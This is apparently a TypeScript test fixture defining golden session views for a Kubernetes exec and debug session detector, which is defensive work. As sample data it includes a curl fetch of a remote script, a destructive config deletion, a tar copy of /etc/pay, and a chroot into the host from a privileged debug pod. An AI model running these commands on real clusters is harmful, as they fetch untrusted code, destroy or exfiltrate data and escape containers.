/**
 * Owns: one session of each kind, and of each thing that a session can be, for the golden documents.
 */
import type { SessionView } from '../../../../../../services/detector/sessions/model.ts';
import { alert, command, finding, request, REQUESTED_MS, view } from './views.ts';

const SECOND_MS = 1000;
const at = (second: number) => Math.floor(REQUESTED_MS / SECOND_MS + second) * SECOND_MS;
const NODE = { namespace: 'default', pod: 'node-debugger-worker-1-x7x2p', node: 'worker-1' };

const SHELL = view({
  requestedMs: REQUESTED_MS,
  commands: [
    command({ eventId: 'c1', timeMs: at(0), commandLine: 'sh', isSessionStart: true }),
    command({ eventId: 'c2', timeMs: at(9), commandLine: 'curl -s http://192.0.2.9:8080/x.sh' }),
    command({ eventId: 'c3', timeMs: at(15), commandLine: 'rm -f /etc/pay/config.yaml' }),
  ],
  alerts: [alert({ commandLine: 'sh', pid: 16_037 })],
  findings: [
    finding(),
    finding({ id: 'b-finding', ruleId: 'destructive', level: 'high', mode: 'test' }),
  ],
});

/** Still open; somebody else is in the pod; something outlived; the client fell back to SPDY. */
const DOUBTFUL = view({
  state: 'open',
  confidence: 'conflict',
  coverage: ['mark_of_other_pod', 'other_session_in_pod', 'process_outlived', 'event_incomplete'],
  retries: 1,
  revision: 9,
  request: request({
    partial: true,
    userName: 'root-admin',
    argv: ['bash', '-c', 'make deploy'],
  }),
  commands: [
    command({ eventId: 'c1', confidence: 'ambiguous', others: ['b-session'] }),
    command({ eventId: 'c2', confidence: 'conflict', requestUid: 'de193172-188c-4596-a2a0' }),
    command({ eventId: 'c3', confidence: 'inferred', outlived: true, node: 'worker-2' }),
  ],
});

function without<T extends object, K extends keyof T>(full: T, ...keys: readonly K[]): Omit<T, K> {
  const gone = new Set<PropertyKey>(keys);
  return Object.fromEntries(Object.entries(full).filter(([key]) => !gone.has(key))) as Omit<T, K>;
}

/** By the name of the golden document. */
export const VIEWS: Readonly<Record<string, SessionView>> = {
  exec: SHELL,
  'exec-open': without(DOUBTFUL, 'endedMs', 'endedBy'),
  cp: view({
    kind: 'cp',
    coverage: ['copy_is_blind'],
    request: request({
      sessionKind: 'cp',
      copy: 'from_container',
      argv: ['tar', 'cf', '-', '/etc/pay'],
      tty: false,
    }),
    commands: [command({ commandLine: 'tar cf - /etc/pay', isSessionStart: true })],
  }),
  attach: view({
    kind: 'attach',
    coverage: ['attach_is_blind'],
    request: request({ sessionKind: 'attach', argv: [], marking: 'unsaid' }),
  }),
  ephemeral: view({
    kind: 'ephemeral',
    place: { namespace: 'payments', pod: 'pay-0', container: 'debugger-k2x9v', node: 'worker-1' },
    request: request({
      sessionKind: 'ephemeral',
      state: 'changed',
      code: 200,
      argv: ['sh'],
      containers: ['debugger-k2x9v'],
      images: ['busybox:1.36'],
      privileged: true,
      unconfined: true,
    }),
    attachers: [
      {
        session: 'c-session',
        userName: 'mallory',
        sourceIp: '2001:db8::7',
        startedMs: REQUESTED_MS + 3 * SECOND_MS,
        endedMs: REQUESTED_MS + 60 * SECOND_MS,
      },
    ],
    commands: [command({ container: 'debugger-k2x9v', commandLine: 'ls /proc/1/root' })],
  }),
  'debug-pod': view({
    kind: 'debug-pod',
    endedBy: 'pod_deleted',
    place: { namespace: 'payments', pod: 'pay-0-debug' },
    request: request({
      sessionKind: 'debug-pod',
      argv: [],
      containers: ['app', 'debugger'],
      images: ['registry.example/pay:4', 'busybox:1.36'],
    }),
    confidence: 'inferred',
    commands: [command({ confidence: 'inferred', container: 'debugger' })],
  }),
  'debug-node': view({
    kind: 'debug-node',
    endedBy: 'age',
    coverage: ['privileged_container', 'end_not_seen'],
    place: NODE,
    request: request({ sessionKind: 'debug-node', argv: ['bash'], privileged: true }),
    confidence: 'inferred',
    commands: [command({ confidence: 'inferred', commandLine: 'chroot /host bash' })],
  }),
  'port-forward': view({
    kind: 'port-forward',
    coverage: ['port_forward_is_blind'],
    request: request({ sessionKind: 'port-forward', argv: [], ports: [5432, 8080] }),
  }),
  'node-proxy': without(
    view({
      kind: 'node-proxy',
      coverage: ['node_proxy', 'answer_not_seen'],
      request: without(
        request({ sessionKind: 'node-proxy', argv: ['id'], state: 'asked' }),
        ...(['code', 'requestUid', 'tty', 'stdin'] as const),
      ),
    }),
    'startedMs',
    'endedMs',
    'endedBy',
  ),
};
